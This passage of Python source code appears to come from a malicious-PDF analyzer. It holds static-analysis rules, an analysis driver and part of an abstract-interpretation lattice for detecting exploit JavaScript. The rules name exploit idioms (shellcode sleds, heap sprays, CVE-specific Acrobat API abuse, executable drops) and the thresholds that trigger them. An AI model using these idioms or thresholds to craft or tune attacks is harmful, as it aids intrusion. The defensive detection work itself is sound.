from repro.jsast.walk import walk

#: Bump on semantic changes that do not alter the rule-id list.
_RULESET_EPOCH = 1

#: Doubling loops below this bound are normal string building; the
#: corpus's benign report scripts double up to 3 072 chars, sprays to
#: 0x20000 (131 072).
SPRAY_LENGTH_THRESHOLD = 0x4000

#: Known-exploited Acrobat JavaScript APIs (matched on dotted suffix).
EXPLOIT_CALL_SUFFIXES: Tuple[str, ...] = (
    "Collab.getIcon",
    "Collab.collectEmailInfo",
    "media.newPlayer",
    "printSeps",
)

#: Rarely-used API surfaces whose mere *access* is version probing
#: (targeted samples feel out the reader before exploiting).
PROBE_COMPONENTS: Tuple[str, ...] = ("hostContainer", "xfaHost")

#: Methods that install or schedule scripts at runtime (Table IV).
STAGING_METHODS: Tuple[str, ...] = (
    "addScript",
    "setAction",
    "setPageAction",
    "setTimeOut",
    "setInterval",
)

#: APIs whose invocation has side effects the runtime detector scores
#: (network, file drops, script staging).  A script touching any of
#: these is triage-ineligible even with zero suspicious findings: its
#: runtime verdict cannot be synthesised statically.
SIDE_EFFECT_COMPONENTS: Tuple[str, ...] = STAGING_METHODS + (
    "exportDataObject",
    "importDataObject",
    "launchURL",
    "getURL",
    "submitForm",
    "saveAs",
    "mailMsg",
    "mailDoc",
)
SIDE_EFFECT_PREFIXES: Tuple[str, ...] = ("SOAP.", "Net.")

_EXECUTABLE_SUFFIXES = (".exe", ".dll", ".scr", ".bat", ".cmd", ".pif")

_PCT_U_RE = re.compile(r"%u[0-9a-fA-F]{4}")
_PRINTF_WIDTH_RE = re.compile(r"%-?\d{4,}")
_SOURCE_ESCAPE_RE = re.compile(r"\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}")

_HEX_CHARS = set("0123456789abcdefABCDEF")


def shannon_entropy(text: str) -> float:
    """Bits per character; 0.0 for empty strings."""
    if not text:
        return 0.0
    counts: Dict[str, int] = {}
    for char in text:
        counts[char] = counts.get(char, 0) + 1
    total = len(text)
    return -sum(
        (count / total) * math.log2(count / total) for count in counts.values()
    )


@dataclass(frozen=True)
class CallInfo:
    """One call/new site with its resolved dotted path (``this.``
    stripped)."""

    path: Optional[str]
    #: CallExpression or NewExpression — both carry callee/arguments.
    node: ast.Node

    def suffix_matches(self, target: str) -> bool:
        if self.path is None:
            return False
        return self.path == target or self.path.endswith("." + target)

    @property
    def last(self) -> Optional[str]:
        if self.path is None:
            return None
        return self.path.rsplit(".", 1)[-1]


@dataclass
class RuleContext:
    """Everything a rule may inspect, precomputed once per script."""

    source: str
    program: ast.Program
    folded: ast.Program
    folder: ConstantFolder
    calls: List[CallInfo] = field(default_factory=list)
    member_paths: Set[str] = field(default_factory=set)
    loops: List[ast.Node] = field(default_factory=list)
    #: Constant strings visible after folding (literals + folded concat
    #: chains / fromCharCode runs / unescape results).
    const_strings: List[str] = field(default_factory=list)
    #: (label, source) pairs queued for one more analysis layer
    #: (constant eval arguments).
    nested: List[Tuple[str, str]] = field(default_factory=list)

    # -- helpers ---------------------------------------------------------

    def const_of(self, node: ast.Node):
        """Fold a raw-AST node; returns the constant or ``None``."""
        wrapped = self.folder.fold_expr(node)
        return wrapped.value if wrapped is not None else None

    def const_str(self, node: ast.Node) -> Optional[str]:
        value = self.const_of(node)
        return value if isinstance(value, str) else None

    def object_entries(self, node: ast.Node) -> Dict[str, object]:
        """Folded ``{key: const}`` view of an object literal argument."""
        if not isinstance(node, ast.ObjectLiteral):
            return {}
        out: Dict[str, object] = {}
        for key, value in node.entries:
            folded = self.const_of(value)
            if folded is not None:
                out[key] = folded
        return out


def member_path(node: ast.Node, folder: ConstantFolder) -> Optional[str]:
    """Dotted path of a member chain, ``this.`` stripped.

    Computed accesses resolve through the folder, so
    ``this["exportData" + "Object"]`` still yields ``exportDataObject``.
    """
    parts: List[str] = []
    current = node
    while isinstance(current, ast.MemberExpression):
        if current.computed:
            wrapped = folder.fold_expr(current.prop)
            if wrapped is None or not isinstance(wrapped.value, str):
                return None
            parts.append(wrapped.value)
        elif isinstance(current.prop, ast.Identifier):
            parts.append(current.prop.name)
        else:
            return None
        current = current.obj
    if isinstance(current, ast.Identifier):
        parts.append(current.name)
    elif not isinstance(current, ast.ThisExpression):
        return None
    parts.reverse()
    return ".".join(parts) if parts else None


def build_context(source: str, program: ast.Program) -> RuleContext:
    """Precompute the shared per-script analysis context."""
    folder = ConstantFolder(program)
    folded = folder.run()
    ctx = RuleContext(
        source=source, program=program, folded=folded, folder=folder
    )
    for node in walk(program):
        if isinstance(node, (ast.CallExpression, ast.NewExpression)):
            path = None
            if isinstance(node.callee, ast.Identifier):
                path = node.callee.name
            elif isinstance(node.callee, ast.MemberExpression):
                path = member_path(node.callee, folder)
            ctx.calls.append(CallInfo(path=path, node=node))
        elif isinstance(node, ast.MemberExpression):
            path = member_path(node, folder)
            if path is not None:
                ctx.member_paths.add(path)
        elif isinstance(
            node, (ast.WhileStatement, ast.DoWhileStatement, ast.ForStatement)
        ):
            ctx.loops.append(node)
    for node in walk(folded):
        if isinstance(node, ast.StringLiteral):
            ctx.const_strings.append(node.value)
    return ctx


# -- registry ----------------------------------------------------------------

RuleFn = Callable[[RuleContext], Iterable[Finding]]

RULES: "Dict[str, RuleFn]" = {}


def rule(rule_id: str) -> Callable[[RuleFn], RuleFn]:
    """Register a rule under ``rule_id`` (unique, kebab-case)."""

    def decorator(fn: RuleFn) -> RuleFn:
        if rule_id in RULES:
            raise ValueError(f"duplicate rule id {rule_id!r}")
        RULES[rule_id] = fn
        return fn

    return decorator


def ruleset_version() -> str:
    """Stable identifier of the registered rule-set.

    Changes whenever a rule is added/removed/renamed or the epoch is
    bumped; the batch verdict cache embeds it in its settings
    fingerprint so stale verdicts are discarded when rules change.
    """
    digest = hashlib.sha256(",".join(sorted(RULES)).encode("utf-8")).hexdigest()
    return f"{_RULESET_EPOCH}.{digest[:10]}"


# -- the rules ---------------------------------------------------------------


@rule("unescape-sled")
def _unescape_sled(ctx: RuleContext) -> Iterable[Finding]:
    """``unescape`` of ``%uXXXX`` data is the canonical shellcode/NOP
    decoder; no benign generator emits it."""
    for call in ctx.calls:
        if call.path != "unescape" or not call.node.arguments:
            continue
        arg = ctx.const_str(call.node.arguments[0])
        if arg is None:
            yield Finding(
                rule="unescape-sled",
                severity=Severity.SUSPICIOUS,
                message="unescape() of a runtime-computed string",
                score=2.0,
            )
        elif _PCT_U_RE.search(arg):
            count = len(_PCT_U_RE.findall(arg))
            yield Finding(
                rule="unescape-sled",
                severity=Severity.STRONG,
                message=f"unescape() decodes {count} %uXXXX unit(s) "
                "(shellcode/NOP-sled idiom)",
                evidence=arg,
                score=3.0,
            )


@rule("heap-spray-loop")
def _heap_spray_loop(ctx: RuleContext) -> Iterable[Finding]:
    """A self-append doubling loop growing a string past
    :data:`SPRAY_LENGTH_THRESHOLD` characters."""
    for loop in ctx.loops:
        test = getattr(loop, "test", None)
        if not isinstance(test, ast.BinaryExpression) or test.op not in ("<", "<="):
            continue
        length = test.left
        if not (
            isinstance(length, ast.MemberExpression)
            and not length.computed
            and isinstance(length.prop, ast.Identifier)
            and length.prop.name == "length"
            and isinstance(length.obj, ast.Identifier)
        ):
            continue
        bound = ctx.const_of(test.right)
        if not isinstance(bound, (int, float)) or bound < SPRAY_LENGTH_THRESHOLD:
            continue
        grown = length.obj.name
        body = getattr(loop, "body", None)
        if body is None or not _self_appends(body, grown):
            continue
        yield Finding(
            rule="heap-spray-loop",
            severity=Severity.STRONG,
            message=f"doubling loop grows '{grown}' to ≥ {int(bound)} chars "
            "(heap-spray block construction)",
            score=2.0,
        )


def _self_appends(body: ast.Node, name: str) -> bool:
    for node in walk(body):
        if not isinstance(node, ast.AssignmentExpression):
            continue
        target = node.target
        if not (isinstance(target, ast.Identifier) and target.name == name):
            continue
        if node.op == "+=":
            return True
        if node.op == "=" and isinstance(node.value, ast.BinaryExpression):
            value = node.value
            if value.op == "+" and any(
                isinstance(side, ast.Identifier) and side.name == name
                for side in (value.left, value.right)
            ):
                return True
    return False


@rule("spray-block-copy")
def _spray_block_copy(ctx: RuleContext) -> Iterable[Finding]:
    """Array-fill loops copying ``substr``/``substring`` blocks — the
    re-allocation idiom sprays use.  Advisory only (INFO): benign report
    builders share the shape at small scale."""
    for loop in ctx.loops:
        body = getattr(loop, "body", None)
        if body is None:
            continue
        for node in walk(body):
            if (
                isinstance(node, ast.AssignmentExpression)
                and node.op == "="
                and isinstance(node.target, ast.MemberExpression)
                and node.target.computed
                and isinstance(node.value, ast.CallExpression)
                and isinstance(node.value.callee, ast.MemberExpression)
                and isinstance(node.value.callee.prop, ast.Identifier)
                and node.value.callee.prop.name in ("substr", "substring", "slice")
            ):
                yield Finding(
                    rule="spray-block-copy",
                    severity=Severity.INFO,
                    message="loop fills an array with substring block copies",
                    score=0.5,
                )
                return


@rule("fromcharcode-density")
def _fromcharcode_density(ctx: RuleContext) -> Iterable[Finding]:
    calls = [c for c in ctx.calls if c.suffix_matches("String.fromCharCode")]
    if not calls:
        return
    total_args = sum(len(c.node.arguments) for c in calls)
    if len(calls) >= 8 or total_args >= 32:
        yield Finding(
            rule="fromcharcode-density",
            severity=Severity.SUSPICIOUS,
            message=f"{len(calls)} String.fromCharCode call(s) decoding "
            f"{total_args} character(s)",
            score=2.0,
        )


@rule("eval-computed-string")
def _eval_computed(ctx: RuleContext) -> Iterable[Finding]:
    """``eval``/``Function`` of anything but a constant literal.  A
    constant argument is queued for one more analysis layer instead."""
    for call in ctx.calls:
        is_eval = call.path == "eval" or call.suffix_matches("app.eval")
        is_function = isinstance(call.node.callee, ast.Identifier) and (
            call.node.callee.name == "Function"
        )
        if not (is_eval or is_function) or not call.node.arguments:
            continue
        label = "eval" if is_eval else "Function"
        code_arg = call.node.arguments[-1]
        constant = ctx.const_str(code_arg)
        if constant is None:
            yield Finding(
                rule="eval-computed-string",
                severity=Severity.STRONG,
                message=f"{label}() of a runtime-computed string",
                score=3.0,
            )
        else:
            ctx.nested.append((f"{label}-arg", constant))
            yield Finding(
                rule="eval-computed-string",
                severity=Severity.INFO,
                message=f"{label}() of a constant string "
                "(argument re-analysed)",
                evidence=constant,
                score=1.0,
            )


@rule("long-string-obfuscation")
def _long_string(ctx: RuleContext) -> Iterable[Finding]:
    """Post-fold constant strings that look like packed data: long
    high-entropy blobs, hex blobs, or embedded %uXXXX runs."""
    for text in ctx.const_strings:
        if len(text) >= 64:
            units = _PCT_U_RE.findall(text)
            if len(units) >= 8:
                yield Finding(
                    rule="long-string-obfuscation",
                    severity=Severity.STRONG,
                    message=f"string carries {len(units)} %uXXXX unit(s)",
                    evidence=text,
                    score=3.0,
                )
                continue
        if len(text) >= 256:
            hex_ratio = sum(1 for ch in text if ch in _HEX_CHARS) / len(text)
            if hex_ratio >= 0.9:
                yield Finding(
                    rule="long-string-obfuscation",
                    severity=Severity.SUSPICIOUS,
                    message=f"{len(text)}-char hex blob",
                    evidence=text,
                    score=2.0,
                )
                continue
        # English prose measures ≈ 4.2–4.4 bits/char; packed/encoded
        # payload blocks sit well above 5.
        if len(text) >= 800 and shannon_entropy(text) >= 5.0:
            yield Finding(
                rule="long-string-obfuscation",
                severity=Severity.SUSPICIOUS,
                message=f"{len(text)}-char high-entropy string "
                f"({shannon_entropy(text):.2f} bits/char)",
                evidence=text,
                score=2.0,
            )


@rule("source-escape-density")
def _source_escape_density(ctx: RuleContext) -> Iterable[Finding]:
    escapes = _SOURCE_ESCAPE_RE.findall(ctx.source)
    if len(escapes) >= 64:
        yield Finding(
            rule="source-escape-density",
            severity=Severity.SUSPICIOUS,
            message=f"{len(escapes)} \\xNN/\\uNNNN escapes in source",
            score=2.0,
        )


@rule("suspicious-acrobat-api")
def _suspicious_api(ctx: RuleContext) -> Iterable[Finding]:
    """Calls into the known-exploited Acrobat API set."""
    for call in ctx.calls:
        for target in EXPLOIT_CALL_SUFFIXES:
            if call.suffix_matches(target):
                yield Finding(
                    rule="suspicious-acrobat-api",
                    severity=Severity.STRONG,
                    message=f"call to exploit-prone API {target}",
                    score=0.0,
                )
                break


@rule("getannots-overflow")
def _getannots_overflow(ctx: RuleContext) -> Iterable[Finding]:
    for call in ctx.calls:
        if not call.suffix_matches("getAnnots") or not call.node.arguments:
            continue
        entries = ctx.object_entries(call.node.arguments[0])
        page = entries.get("nPage")
        if isinstance(page, (int, float)) and abs(page) >= (1 << 24):
            yield Finding(
                rule="getannots-overflow",
                severity=Severity.STRONG,
                message=f"getAnnots with out-of-range nPage={int(page)} "
                "(CVE-2009-1492 idiom)",
                score=0.0,
            )


@rule("printf-width-overflow")
def _printf_width(ctx: RuleContext) -> Iterable[Finding]:
    for call in ctx.calls:
        if not call.suffix_matches("util.printf") or not call.node.arguments:
            continue
        fmt = ctx.const_str(call.node.arguments[0])
        if fmt is not None and _PRINTF_WIDTH_RE.search(fmt):
            yield Finding(
                rule="printf-width-overflow",
                severity=Severity.STRONG,
                message="util.printf format with huge field width "
                "(CVE-2008-2992 idiom)",
                evidence=fmt,
                score=0.0,
            )


@rule("script-staging")
def _script_staging(ctx: RuleContext) -> Iterable[Finding]:
    """Runtime script installation/scheduling (Doc.addScript,
    app.setTimeOut, ...) — the static scan cannot see the staged code."""
    seen: Set[str] = set()
    for call in ctx.calls:
        last = call.last
        if last in STAGING_METHODS and last not in seen:
            seen.add(last)
            yield Finding(
                rule="script-staging",
                severity=Severity.SUSPICIOUS,
                message=f"runtime script staging via {last}()",
                score=1.0,
            )


@rule("export-launch")
def _export_launch(ctx: RuleContext) -> Iterable[Finding]:
    for call in ctx.calls:
        if call.last != "exportDataObject":
            continue
        entries = (
            ctx.object_entries(call.node.arguments[0])
            if call.node.arguments
            else {}
        )
        launch = entries.get("nLaunch")
        name = entries.get("cName")
        launches = isinstance(launch, (int, float)) and launch >= 1
        executable = isinstance(name, str) and name.lower().endswith(
            _EXECUTABLE_SUFFIXES
        )
        if launches or executable:
            yield Finding(
                rule="export-launch",
                severity=Severity.STRONG,
                message="exportDataObject drops and launches an attachment"
                + (f" ({name})" if isinstance(name, str) else ""),
                score=0.0,
            )
        else:
            yield Finding(
                rule="export-launch",
                severity=Severity.SUSPICIOUS,
                message="exportDataObject writes an attachment to disk",
                score=0.0,
            )


@rule("api-probe")
def _api_probe(ctx: RuleContext) -> Iterable[Finding]:
    """Access to exotic API surfaces (hostContainer, xfaHost) used to
    fingerprint the reader version before exploitation."""
    seen: Set[str] = set()
    for path in sorted(ctx.member_paths):
        for component in PROBE_COMPONENTS:
            if component in path.split(".") and component not in seen:
                seen.add(component)
                yield Finding(
                    rule="api-probe",
                    severity=Severity.SUSPICIOUS,
                    message=f"probes rare API surface '{component}'",
                    evidence=path,
                    score=1.0,
                )


@rule("unfoldable")
def _unfoldable(ctx: RuleContext) -> Iterable[Finding]:
    """Constant builtin calls whose arguments fall outside the
    builtin's total domain (``String.fromCharCode(Infinity)``, ...).

    Advisory only: the folder leaves such expressions opaque instead of
    crashing, and an INFO finding never blocks triage — but the note
    matters for debugging why a seemingly-constant string stayed
    unfolded."""
    for what in ctx.folder.unfoldable:
        yield Finding(
            rule="unfoldable",
            severity=Severity.INFO,
            message=f"constant {what} call left unfolded (hostile arguments)",
            score=0.0,
        )


def side_effect_apis(ctx: RuleContext) -> List[str]:
    """Dotted paths of side-effect-capable APIs the script touches.

    Checked over *member accesses*, not just calls: even referencing
    ``this.hostContainer.postMessage`` proves nothing executes, but
    referencing ``SOAP.request`` then calling it through an alias would
    evade a call-only check.
    """
    found: Set[str] = set()
    paths = set(ctx.member_paths)
    for call in ctx.calls:
        if call.path is not None:
            paths.add(call.path)
    for path in paths:
        last = path.rsplit(".", 1)[-1]
        if last in SIDE_EFFECT_COMPONENTS:
            found.add(path)
            continue
        for prefix in SIDE_EFFECT_PREFIXES:
            if path.startswith(prefix) or f".{prefix}" in path + ".":
                found.add(path)
                break
    return sorted(found)


#: Version of the built-in rule-set at import time.
RULESET_VERSION = ruleset_version()
