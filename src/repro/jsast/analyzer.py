"""Script- and document-level static analysis drivers.

:func:`analyze_script` takes one JavaScript source string through
parse → constant fold → rule registry and returns a
:class:`~repro.jsast.report.JSStaticReport`.  Constant ``eval``
arguments get one more layer of the same treatment, with findings
re-labelled ``eval:<rule>`` so provenance survives.

:func:`analyze_document` runs every JavaScript chain of a parsed PDF
through :func:`analyze_script` and adds *document-level guards*:
active content the static pass cannot vouch for (embedded files,
RichMedia render annotations) makes the document triage-ineligible
regardless of how clean its scripts look.

Everything here is fail-open by construction: an exception anywhere in
parsing or analysis becomes an ``unparseable-js`` / ``analysis-error``
finding (never escapes to the caller), and such reports are never
triage-eligible.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro import obs as obs_mod
from repro.js.errors import JSSyntaxError
from repro.js.parser import parse
from repro.jsast.report import Finding, JSStaticReport, Severity
from repro.jsast.rules import (
    RULES,
    build_context,
    ruleset_version,
    side_effect_apis,
)
from repro.obs import profile as profile_mod

#: How many layers of constant ``eval`` arguments to follow.
MAX_NESTED_DEPTH = 2

#: Document guard names (active content forcing full emulation).
GUARD_EMBEDDED_FILE = "embedded-file"
GUARD_RICH_MEDIA = "rich-media"
GUARD_UNDECODABLE_JS = "undecodable-js"


def analyze_script(
    code: str,
    label: str = "script",
    obs: Optional[obs_mod.Observability] = None,
    _depth: int = 0,
) -> JSStaticReport:
    """Statically analyse one script; never raises."""
    obs = obs if obs is not None else obs_mod.get_default()
    report = JSStaticReport(script=label, ruleset_version=ruleset_version())

    with obs.tracer.span("jsast.analyze", script=label, depth=_depth) as span:
        try:
            program = parse(code)
        except JSSyntaxError as exc:
            report.parse_error = str(exc)
            report.findings.append(
                Finding(
                    rule="unparseable-js",
                    severity=Severity.SUSPICIOUS,
                    message=f"script does not parse: {exc}",
                    evidence=code,
                    score=2.0,
                )
            )
        except Exception as exc:  # noqa: BLE001 - fail-open, never raise
            report.parse_error = f"{type(exc).__name__}: {exc}"
            report.findings.append(
                Finding(
                    rule="unparseable-js",
                    severity=Severity.SUSPICIOUS,
                    message=f"parser crashed: {type(exc).__name__}: {exc}",
                    score=2.0,
                )
            )
        else:
            _run_rules(code, program, report, label, obs, _depth)

        if _depth == 0 and report.parse_error is None:
            _run_absint(code, report, label, obs)

        report.obfuscation_score = min(
            10.0, sum(f.score for f in report.findings)
        )
        span.set_tag("findings", len(report.findings))
        span.set_tag("suspicious", report.suspicious)
        span.set_tag("eligible", report.triage_eligible)
        if obs.enabled:
            for finding in report.findings:
                obs.metrics.inc("jsast_findings", rule=finding.rule)
            if report.parse_error is not None:
                obs.metrics.inc("jsast_parse_errors")
    return report


def _run_absint(
    code: str,
    report: JSStaticReport,
    label: str,
    obs: obs_mod.Observability,
) -> None:
    """Run the abstract-interpretation proof tier (depth 0 only — it
    peels nested layers itself).  Never raises."""
    from repro.jsast.rules_absint import proof_findings, run_absint

    with obs.tracer.span("jsast.absint", script=label) as span:
        with profile_mod.phase("absint"):
            section = run_absint(code, label=label)
        report.absint = section
        report.findings.extend(proof_findings(section))
        span.set_tag("verdict", section.get("verdict", "unknown"))
        span.set_tag("steps", section.get("steps", 0))
        span.set_tag("max_depth", section.get("max_depth", 0))
        if obs.enabled:
            obs.metrics.inc(
                "absint_verdicts", verdict=section.get("verdict", "unknown")
            )


def _run_rules(
    code: str,
    program,
    report: JSStaticReport,
    label: str,
    obs: obs_mod.Observability,
    depth: int,
) -> None:
    """Fold, run every registered rule, then follow constant evals."""
    try:
        ctx = build_context(code, program)
    except Exception as exc:  # noqa: BLE001 - fail-open
        report.parse_error = f"analysis error: {type(exc).__name__}: {exc}"
        report.findings.append(
            Finding(
                rule="analysis-error",
                severity=Severity.SUSPICIOUS,
                message=f"constant folding crashed: {type(exc).__name__}",
                score=1.0,
            )
        )
        return

    for rule_id, rule_fn in RULES.items():
        try:
            report.findings.extend(rule_fn(ctx))
        except Exception as exc:  # noqa: BLE001 - one broken rule
            # must not silence the rest, and must not grant triage.
            report.findings.append(
                Finding(
                    rule="analysis-error",
                    severity=Severity.SUSPICIOUS,
                    message=f"rule {rule_id!r} crashed: {type(exc).__name__}",
                    score=1.0,
                )
            )

    try:
        report.side_effect_apis = side_effect_apis(ctx)
    except Exception:  # noqa: BLE001 - fail-open: assume side effects
        report.side_effect_apis = ["<analysis-error>"]

    if depth < MAX_NESTED_DEPTH:
        for nested_label, nested_code in ctx.nested:
            nested = analyze_script(
                nested_code,
                label=f"{label}::{nested_label}",
                obs=obs,
                _depth=depth + 1,
            )
            report.findings.extend(
                Finding(
                    rule=f"eval:{f.rule}",
                    severity=f.severity,
                    message=f.message,
                    evidence=f.evidence,
                    score=f.score,
                )
                for f in nested.findings
            )
            report.side_effect_apis = sorted(
                set(report.side_effect_apis) | set(nested.side_effect_apis)
            )
            if nested.parse_error is not None and report.parse_error is None:
                report.parse_error = f"eval layer: {nested.parse_error}"
    elif ctx.nested:
        report.findings.append(
            Finding(
                rule="eval-computed-string",
                severity=Severity.SUSPICIOUS,
                message=f"eval nesting deeper than {MAX_NESTED_DEPTH} layers",
                score=2.0,
            )
        )


@dataclass
class DocumentJSAnalysis:
    """Static-analysis outcome for a whole document."""

    reports: List[JSStaticReport] = field(default_factory=list)
    #: Document-level reasons full emulation is required regardless of
    #: script findings (embedded files, render media, ...).
    guards: List[str] = field(default_factory=list)

    @property
    def suspicious(self) -> bool:
        return any(report.suspicious for report in self.reports)

    @property
    def triage_eligible(self) -> bool:
        """True iff skipping Phase-II emulation provably cannot change
        the verdict: no guards, and every script both parsed cleanly
        and neither looks suspicious nor touches side-effect APIs —
        or was proven channel-free by abstract interpretation."""
        if self.guards:
            return False
        return all(report.triage_eligible for report in self.reports)

    @property
    def proven_malicious(self) -> bool:
        """Abstract interpretation proved at least one script reaches
        detector-flagged behaviour (valid regardless of guards: active
        content can only *add* malice)."""
        return any(report.proven_malicious for report in self.reports)

    def proof_findings(self) -> List[Finding]:
        """Every PROVEN finding across all scripts."""
        return [
            finding
            for report in self.reports
            for finding in report.findings
            if finding.severity >= Severity.PROVEN
        ]

    @property
    def triage_fail_open_reason(self) -> str:
        """Why the document cannot be triaged (``""`` when it can)."""
        if self.proven_malicious or self.triage_eligible:
            return ""
        if self.guards:
            return f"guard:{self.guards[0]}"
        for report in self.reports:
            if report.triage_eligible:
                continue
            if report.parse_error is not None:
                return "parse-error"
            if report.absint:
                reason = str(report.absint.get("reason", ""))
                if reason.startswith(("absint-budget", "absint-error")):
                    return reason
            if report.suspicious:
                return "suspicious-findings"
            if report.side_effect_apis:
                return "side-effect-apis"
            return "not-proven"
        return "not-proven"

    @property
    def finding_count(self) -> int:
        return sum(len(report.findings) for report in self.reports)

    @property
    def obfuscation_score(self) -> float:
        return max(
            (report.obfuscation_score for report in self.reports), default=0.0
        )

    def rules_fired(self) -> List[str]:
        fired = set()
        for report in self.reports:
            fired.update(report.rules_fired())
        return sorted(fired)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "reports": [report.to_dict() for report in self.reports],
            "guards": list(self.guards),
            "suspicious": self.suspicious,
            "triage_eligible": self.triage_eligible,
            "proven_malicious": self.proven_malicious,
            "obfuscation_score": self.obfuscation_score,
        }

    @classmethod
    def from_dict(cls, payload: Dict[str, Any]) -> "DocumentJSAnalysis":
        return cls(
            reports=[
                JSStaticReport.from_dict(r) for r in payload.get("reports", [])
            ],
            guards=list(payload.get("guards", [])),
        )


def analyze_document(
    document,
    obs: Optional[obs_mod.Observability] = None,
) -> DocumentJSAnalysis:
    """Analyse every JavaScript chain of a parsed :class:`PDFDocument`.

    Never raises; a script that cannot even be extracted becomes an
    ``undecodable-js`` guard.
    """
    from repro.pdf.objects import PDFStream

    obs = obs if obs is not None else obs_mod.get_default()
    analysis = DocumentJSAnalysis()

    try:
        for entry in document.store:
            value = entry.value
            if isinstance(value, PDFStream):
                if str(value.dictionary.get("Type", "")) == "EmbeddedFile":
                    if GUARD_EMBEDDED_FILE not in analysis.guards:
                        analysis.guards.append(GUARD_EMBEDDED_FILE)
                if "SimCVE" in value.dictionary:
                    if GUARD_RICH_MEDIA not in analysis.guards:
                        analysis.guards.append(GUARD_RICH_MEDIA)
        if "RichMedia" in document.catalog:
            if GUARD_RICH_MEDIA not in analysis.guards:
                analysis.guards.append(GUARD_RICH_MEDIA)
    except Exception:  # noqa: BLE001 - fail-open
        analysis.guards.append(GUARD_UNDECODABLE_JS)

    try:
        actions = list(document.iter_javascript_actions())
    except Exception:  # noqa: BLE001 - fail-open
        analysis.guards.append(GUARD_UNDECODABLE_JS)
        return analysis

    for index, action in enumerate(actions):
        label = action.name or f"{action.trigger}#{index}"
        try:
            code = document.get_javascript_code(action)
        except Exception:  # noqa: BLE001 - fail-open
            analysis.guards.append(GUARD_UNDECODABLE_JS)
            continue
        if not code.strip():
            continue
        analysis.reports.append(analyze_script(code, label=label, obs=obs))
    return analysis
