"""Value lattice for the abstract interpreter (:mod:`repro.jsast.absint`).

The domain is deliberately small — it exists to prove two families of
facts about obfuscated droppers:

* *benign* facts: every string fed to ``eval`` is a known constant, so
  each obfuscation layer can be peeled and re-analysed;
* *malicious* facts: a spray block provably carries ``L ≥ threshold``
  characters of shellcode/NOP sled and is copied ``N ≥ bound`` times,
  so the allocation lower bound ``2·L·N`` exceeds the detector's
  memory threshold without running anything.

Elements (partial order ``BOTTOM ⊑ AbsConst ⊑ shape ⊑ TOP``):

``BOTTOM``
    unreachable / no value yet.
``AbsConst``
    one exact JS value (string, number, boolean or null).
``AbsNum``
    a number within a (possibly unbounded) :class:`Interval`.
``AbsStr``
    a string of known *shape*: repeated unit, sled-carrier (a sled
    prefix plus unknown tail), numeric/hex/percent-u text, or unknown
    content with length bounds.  ``sled_chars`` is a proven *lower*
    bound on the contiguous non-printable payload prefix.
``AbsFunc`` / ``LOCAL_OBJ``
    a user-defined function / a locally-allocated array or object
    (their *contents* are unknown, but they are not host API objects).
``TOP``
    anything, including host objects.

Joins generalise: two distinct constant strings sharing a primitive
period join to a ``repeated-unit`` shape (that is how a doubling loop
``s += s`` converges in two abstract iterations), distinct numbers join
to an interval, and widening pushes unstable interval bounds to ±∞ so
every loop reaches a fixed point in a bounded number of steps.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field, replace
from typing import Optional, Union

Const = Union[str, float, bool, None]

#: Shape kinds carried by :class:`AbsStr`.
SHAPE_REPEATED = "repeated-unit"
SHAPE_SLED_CARRIER = "sled-carrier"
SHAPE_NUMERIC = "numeric"
SHAPE_HEX = "hex"
SHAPE_PERCENT_U = "percent-u"
SHAPE_TEXT = "text"

_PCT_U_RE = re.compile(r"%u[0-9a-fA-F]{4}")
_HEX_RE = re.compile(r"[0-9a-fA-F]+\Z")
_NUMERIC_RE = re.compile(r"[0-9]+\Z")


# ---------------------------------------------------------------------------
# Intervals


@dataclass(frozen=True)
class Interval:
    """A closed interval over JS numbers; ``None`` bounds are ±∞."""

    lo: Optional[float]
    hi: Optional[float]

    @classmethod
    def exact(cls, value: float) -> "Interval":
        return cls(value, value)

    @classmethod
    def at_least(cls, value: float) -> "Interval":
        return cls(value, None)

    @classmethod
    def top(cls) -> "Interval":
        return cls(None, None)

    @property
    def exact_value(self) -> Optional[float]:
        if self.lo is not None and self.lo == self.hi:
            return self.lo
        return None

    def join(self, other: "Interval") -> "Interval":
        lo = None if self.lo is None or other.lo is None else min(self.lo, other.lo)
        hi = None if self.hi is None or other.hi is None else max(self.hi, other.hi)
        return Interval(lo, hi)

    def widen(self, other: "Interval") -> "Interval":
        """Keep stable bounds, drop the ones still moving."""
        lo = self.lo if (self.lo is not None and other.lo is not None and other.lo >= self.lo) else None
        hi = self.hi if (self.hi is not None and other.hi is not None and other.hi <= self.hi) else None
        return Interval(lo, hi)

    def clamp_lo(self, bound: float) -> "Interval":
        """Refine: the value is additionally known to be ≥ ``bound``."""
        lo = bound if self.lo is None else max(self.lo, bound)
        return Interval(lo, self.hi)

    def add(self, other: "Interval") -> "Interval":
        lo = None if self.lo is None or other.lo is None else self.lo + other.lo
        hi = None if self.hi is None or other.hi is None else self.hi + other.hi
        return Interval(lo, hi)

    def mul_nonneg(self, other: "Interval") -> "Interval":
        """Product assuming both intervals are non-negative (lengths,
        trip counts); anything else degrades to ⊤."""
        if (self.lo is not None and self.lo < 0) or (
            other.lo is not None and other.lo < 0
        ):
            return Interval.top()
        lo = 0.0 if self.lo is None or other.lo is None else self.lo * other.lo
        hi = None if self.hi is None or other.hi is None else self.hi * other.hi
        return Interval(lo, hi)


NONNEG = Interval(0.0, None)
ZERO = Interval.exact(0.0)


# ---------------------------------------------------------------------------
# Abstract values


class AbsValue:
    """Base class of every lattice element."""

    __slots__ = ()


@dataclass(frozen=True)
class _Bottom(AbsValue):
    pass


@dataclass(frozen=True)
class _Top(AbsValue):
    pass


@dataclass(frozen=True)
class _LocalObj(AbsValue):
    """A locally-allocated array/object literal (not a host object)."""


BOTTOM = _Bottom()
TOP = _Top()
LOCAL_OBJ = _LocalObj()


@dataclass(frozen=True)
class AbsConst(AbsValue):
    value: Const


@dataclass(frozen=True)
class AbsNum(AbsValue):
    range: Interval


@dataclass(frozen=True)
class AbsFunc(AbsValue):
    name: str = ""


@dataclass(frozen=True)
class AbsStr(AbsValue):
    """A string of known shape but (partially) unknown content."""

    kind: str
    length: Interval
    #: The repeating unit for ``repeated-unit`` / the sled unit for
    #: ``sled-carrier`` (a short exact string, e.g. ``"邐"``).
    unit: Optional[str] = None
    #: Proven lower/upper bounds on the sled-character *prefix*.
    sled_chars: Interval = field(default_factory=lambda: ZERO)

    def describe(self) -> str:
        lo = int(self.length.lo) if self.length.lo is not None else 0
        hi = "∞" if self.length.hi is None else str(int(self.length.hi))
        unit = f" unit={self.unit!r}" if self.unit else ""
